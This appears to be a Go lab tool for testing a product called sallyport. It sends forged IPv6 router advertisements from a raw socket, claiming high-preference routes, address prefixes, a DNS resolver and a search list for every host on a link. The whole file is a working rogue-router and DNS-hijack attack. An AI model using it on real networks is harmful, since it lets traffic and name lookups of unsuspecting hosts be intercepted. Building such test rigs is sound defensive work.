//go:build linux

// Command sallyport-lab-advert is the router of a hostile network: it advertises itself as the best
// way to every prefix of its arguments (RFC 4191 route information), each prefix of 64 bits also as a
// network to take an address from, and the first address of each as a resolver with a search list (RFC
// 8106). A lifetime of 0 takes all that back. The lab lets it loose on a laptop; it is no part of an
// installation.
package main

import (
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"

	"golang.org/x/sys/unix"
)

const (
	routerAdvertisement = 134
	prefixInformation   = 3
	routeInformation    = 24
	preferenceHigh      = 0b01 << 3
	onLinkAndAutonomous = 0xc0
	resolvers           = 25 // RFC 8106
	searchList          = 31
	hopLimit            = 255 // others are not believed
)

func main() {
	lifetime := flag.Uint("lifetime", 600, "seconds for which it is to be believed")
	flag.Parse()
	if flag.NArg() < 2 || *lifetime > 0xffff {
		fmt.Fprintln(os.Stderr, "usage: sallyport-lab-advert [--lifetime SECONDS] INTERFACE PREFIX...")
		os.Exit(2)
	}
	if err := run(flag.Arg(0), flag.Args()[1:], uint16(*lifetime)); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(name string, texts []string, lifetime uint16) error {
	prefixes := []netip.Prefix{}
	for _, text := range texts {
		prefix, err := netip.ParsePrefix(text)
		if err != nil || !prefix.Addr().Is6() {
			return fmt.Errorf("%q is not an IPv6 prefix", text)
		}
		prefixes = append(prefixes, prefix)
	}
	link, err := net.InterfaceByName(name)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMPV6)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_HOPS, hopLimit); err != nil {
		return fmt.Errorf("hop limit: %w", err)
	}
	everyNode := &unix.SockaddrInet6{ZoneId: uint32(link.Index), Addr: netip.MustParseAddr("ff02::1").As16()}
	if err := unix.Sendto(fd, advertisement(prefixes, lifetime), 0, everyNode); err != nil {
		return fmt.Errorf("send: %w", err)
	}
	return nil
}

// advertisement leaves the checksum to the kernel, which fills it in on such sockets.
func advertisement(prefixes []netip.Prefix, lifetime uint16) []byte {
	seconds := []byte{0, 0, byte(lifetime >> 8), byte(lifetime)}
	message := []byte{routerAdvertisement, 0, 0, 0, 64, preferenceHigh}
	message = append(message, seconds[2:]...)
	message = append(message, make([]byte, 8)...) // reachable and retransmission times: unspecified
	for _, prefix := range prefixes {
		address := prefix.Addr().As16()
		message = append(message, routeInformation, 3, byte(prefix.Bits()), preferenceHigh)
		message = append(append(message, seconds...), address[:]...)
		message = append(append(message, resolvers, 3, 0, 0), seconds...)
		message = append(message, address[:]...)
		if prefix.Bits() != 64 {
			continue
		}
		message = append(message, prefixInformation, 4, 64, onLinkAndAutonomous)
		message = append(append(message, seconds...), seconds...)
		message = append(append(message, 0, 0, 0, 0), address[:]...)
	}
	message = append(append(message, searchList, 3, 0, 0), seconds...)
	return append(message, "\x04corp\x07example\x00\x00\x00"...)
}
